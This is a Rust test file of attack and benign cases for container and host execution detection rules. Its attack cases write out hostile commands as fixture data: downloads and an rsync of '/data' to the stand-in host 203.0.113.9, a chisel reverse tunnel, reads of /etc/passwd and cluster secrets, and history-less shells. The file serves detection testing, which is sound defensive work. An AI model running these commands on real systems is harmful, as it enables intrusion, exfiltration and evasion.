//! Cases for `80-execution.yaml`.

use casebook_fixtures::flags::{ALL_CAPS, DOCKER_CAPS, ENOENT, O_WRONLY};
use casebook_fixtures::{Container, Exec};

use crate::scene::{Case, PTS, Scene, case};

pub(crate) fn cases() -> Vec<Case> {
    let mut cases = servers();
    cases.extend(tools());
    cases.extend(shells());
    cases
}

fn servers() -> Vec<Case> {
    vec![
        case(
            "New program executed in a container",
            |s| {
                s.run(s.inside, &Exec::new("/opt/tool").argv(&["tool"]).upper_layer());
            },
            |s| {
                s.boxed("/usr/local/bin/app", &["app", "--version"]);
                s.run(s.root, &Exec::new("/opt/tool").upper_layer());
            },
        ),
        case(
            "Shell started by a web server",
            |s| {
                s.t.spawn(s.nginx, "/bin/sh", &["sh", "-c", "id"]);
            },
            |s| {
                s.t.spawn(s.nginx, "/usr/sbin/nginx", &["nginx", "-t"]);
                s.t.spawn(s.web, "/bin/sh", &["sh", "-c", "/opt/healthcheck"]);
                s.t.spawn(s.sshd, "/bin/sh", &["sh", "-c", "id"]);
            },
        ),
        case(
            "Tool started by a web server",
            |s| {
                s.t.spawn(s.nginx, "/usr/bin/whoami", &["whoami"]);
                s.t.spawn(s.web, "/usr/bin/python3", &["python3", "-c", "print(1)"]);
            },
            |s| {
                s.t.spawn(s.nginx, "/usr/bin/convert", &["convert", "a.png", "b.png"]);
                s.user("/usr/bin/whoami", &["whoami"]);
            },
        ),
        case(
            "Program started by a database",
            |s| {
                s.t.spawn(s.mysqld, "/bin/sh", &["sh", "-c", "id"]);
            },
            |s| {
                s.t.spawn(s.mysqld, "/usr/sbin/mysqld", &["mysqld"]);
                s.user("/usr/bin/mysql", &["mysql"]);
            },
        ),
        case(
            "Shell started by a protected service",
            |s| {
                let consul = s.host("/usr/bin/consul", &["consul", "agent"]);
                let helper = s.t.spawn(consul, "/opt/helper", &["helper"]);
                s.t.spawn(helper, "/bin/sh", &["sh", "-c", "id"]);
            },
            |s| {
                let shell = s.t.spawn(s.cron, "/bin/sh", &["sh", "-c", "run-parts /etc/cron.hourly"]);
                s.t.spawn(shell, "/bin/sh", &["sh", "/etc/cron.hourly/x"]);
                let consul = s.host("/usr/bin/consul", &["consul", "agent"]);
                s.t.spawn(consul, "/bin/sh", &["sh", "-c", "uname -s 2>&1"]);
            },
        ),
        case(
            "System account runs a program interactively",
            |s| {
                let session = s.t.fork(s.sshd);
                s.t.setuid(session, 33, 0);
                s.t.execve(session, "/bin/bash", &["-bash"]);
            },
            |s| {
                s.t.spawn(s.nginx, "/usr/bin/gzip", &["gzip", "access.log.1"]);
                s.user("/bin/ls", &["ls"]);
            },
        ),
    ]
}

fn tools() -> Vec<Case> {
    vec![
        case(
            "Package manager run in a container",
            |s| {
                s.boxed("/usr/bin/apt-get", &["apt-get", "install", "-y", "nmap"]);
            },
            |s| {
                s.host("/usr/bin/apt-get", &["apt-get", "update"]);
                s.t.execve_failed(s.inside, "/usr/bin/apt-get", ENOENT);
            },
        ),
        case(
            "Cluster client run in a container",
            |s| {
                s.boxed("/tmp/kubectl", &["kubectl", "get", "secrets"]);
            },
            |s| {
                s.host("/usr/bin/kubectl", &["kubectl", "get", "pods"]);
            },
        ),
        case(
            "Download tool run in a container",
            |s| {
                s.boxed("/usr/bin/curl", &["curl", "-o", "/tmp/x", "http://203.0.113.9/x"]);
                s.boxed("/usr/bin/wget", &["wget", "http://203.0.113.9/x"]);
            },
            |s| {
                s.boxed("/usr/bin/curl", &["curl", "-f", "http://localhost:8080/health"]);
                s.host("/usr/bin/curl", &["curl", "https://example.org"]);
            },
        ),
        case(
            "Remote copy tool run in a container",
            |s| {
                s.boxed("/usr/bin/rsync", &["rsync", "-a", "/data", "203.0.113.9::x"]);
            },
            |s| {
                s.host("/usr/bin/rsync", &["rsync", "-a", "/srv", "/backup"]);
                s.boxed("/bin/cp", &["cp", "a", "b"]);
            },
        ),
        case(
            "Network tool run in a container",
            |s| {
                s.boxed("/usr/bin/nmap", &["nmap", "-sT", "10.0.0.0/24"]);
            },
            |s| {
                s.boxed("/bin/ping", &["ping", "-c1", "db"]);
            },
        ),
        case(
            "Network tool run on the host",
            |s| {
                s.host("/usr/bin/tcpdump", &["tcpdump", "-i", "eth0"]);
            },
            |s| {
                s.host("/usr/bin/ss", &["ss", "-tlnp"]);
            },
        ),
        case(
            "Tunnel program started",
            |s| {
                s.boxed("/tmp/chisel", &["chisel", "client", "203.0.113.9:443", "R:socks"]);
            },
            |s| {
                s.run(s.root, &Exec::new("/usr/sbin/openvpn").argv(&["openvpn", "--config", "office.conf"]));
            },
        ),
        case(
            "Compiler run in a container",
            |s| {
                s.boxed("/usr/bin/gcc", &["gcc", "-o", "x", "x.c"]);
            },
            |s| {
                s.user("/usr/bin/gcc", &["gcc", "-o", "x", "x.c"]);
                let pip = s.boxed("/usr/bin/pip", &["pip", "install", "x"]);
                s.t.spawn(pip, "/usr/bin/gcc", &["gcc", "-c", "x.c"]);
            },
        ),
        case(
            "Program executed from a temporary folder",
            |s| {
                s.host("/tmp/payload", &["./payload"]);
                s.boxed("/var/tmp/x", &["/var/tmp/x"]);
            },
            |s| {
                s.host("/usr/bin/ls", &["ls", "/tmp"]);
                let dpkg = s.host("/usr/bin/dpkg", &["dpkg", "-i", "x.deb"]);
                s.t.spawn(dpkg, "/var/tmp/x.config", &["/var/tmp/x.config"]);
            },
        ),
    ]
}

fn shells() -> Vec<Case> {
    vec![
        case(
            "Shell with a terminal started in a container",
            |s| {
                let shell = s.t.enter(s.shim, &s.container);
                s.t.exec(shell, &Exec::new("/bin/bash").argv(&["bash"]).tty(PTS));
            },
            |s| {
                s.user("/bin/bash", &["bash"]);
                enter(s, "/bin/sh", &["sh", "-c", "ls"]);
            },
        ),
        case(
            "Shell without a terminal started in a container",
            |s| enter(s, "/bin/sh", &["sh", "-c", "cat /etc/passwd"]),
            |s| {
                enter(s, "/bin/sh", &["sh", "-c", "curl -f localhost/health"]);
                enter(s, "/bin/ls", &["ls"]);
                // The entry point of an image is often a shell.
                s.t.execve(s.app, "/bin/sh", &["sh", "/entrypoint.sh"]);
            },
        ),
        case(
            "Reconnaissance at a terminal",
            |s| {
                let child = s.t.fork(s.alice);
                s.t.setpgid(child);
                s.t.execve(child, "/usr/bin/whoami", &["whoami"]);
            },
            |s| {
                s.host("/usr/bin/uname", &["uname", "-r"]);
                s.user("/usr/bin/vim", &["vim"]);
            },
        ),
        case(
            "Shell started without history",
            |s| {
                s.run(s.root, &Exec::new("/bin/bash").env(&["HISTFILE=/dev/null", "TERM=xterm"]));
            },
            |s| {
                s.run(s.root, &Exec::new("/bin/bash").env(&["HISTSIZE=1000", "TERM=xterm"]));
                s.run(s.root, &Exec::new("/bin/ls").env(&["HISTFILE=/dev/null"]));
            },
        ),
        case(
            "Encoded payload decoded in a container",
            |s| {
                s.boxed("/usr/bin/base64", &["base64", "-d"]);
            },
            |s: &mut Scene| {
                s.boxed("/usr/bin/base64", &["base64", "/etc/hostname"]);
                s.user("/usr/bin/base64", &["base64", "-d"]);
            },
        ),
        Case {
            rule: "Container started with sensitive host paths",
            attack: |s| start(s, DOCKER_CAPS),
            benign: |s| {
                // Not the first process of the container.
                s.t.execve(s.inside, "/bin/sh", &["sh"]);
            },
            container: Some(|| Container::docker("badbad", "agent", "example/agent", "1").mount("/", "/host", true)),
        },
        case(
            "Container started with dangerous capabilities",
            |s| start(s, ALL_CAPS),
            |s| {
                start(s, DOCKER_CAPS);
                let host = s.t.fork(s.root);
                s.t.exec(host, &Exec::new("/usr/bin/true").caps(ALL_CAPS));
                s.t.open(host, "/dev/null", O_WRONLY);
            },
        ),
    ]
}

/// The runtime runs a program in the container, without a terminal.
fn enter(s: &mut Scene, path: &str, argv: &[&str]) {
    let child = s.t.enter(s.shim, &s.container);
    s.t.execve(child, path, argv);
}

/// The container's first program starts.
fn start(s: &mut Scene, caps: u64) {
    s.t.exec(s.app, &Exec::new("/usr/local/bin/app").caps(caps));
}
